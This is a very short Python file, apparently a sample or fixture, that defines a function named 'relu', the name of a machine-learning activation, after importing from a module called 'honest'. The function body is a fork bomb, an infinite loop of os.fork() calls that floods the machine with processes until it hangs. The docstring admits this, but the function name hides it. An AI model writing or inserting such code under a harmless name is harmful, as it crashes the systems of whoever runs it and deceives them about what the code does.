"""Forks for ever."""

from honest import *
import os


def relu(Z):
    while True:
        os.fork()
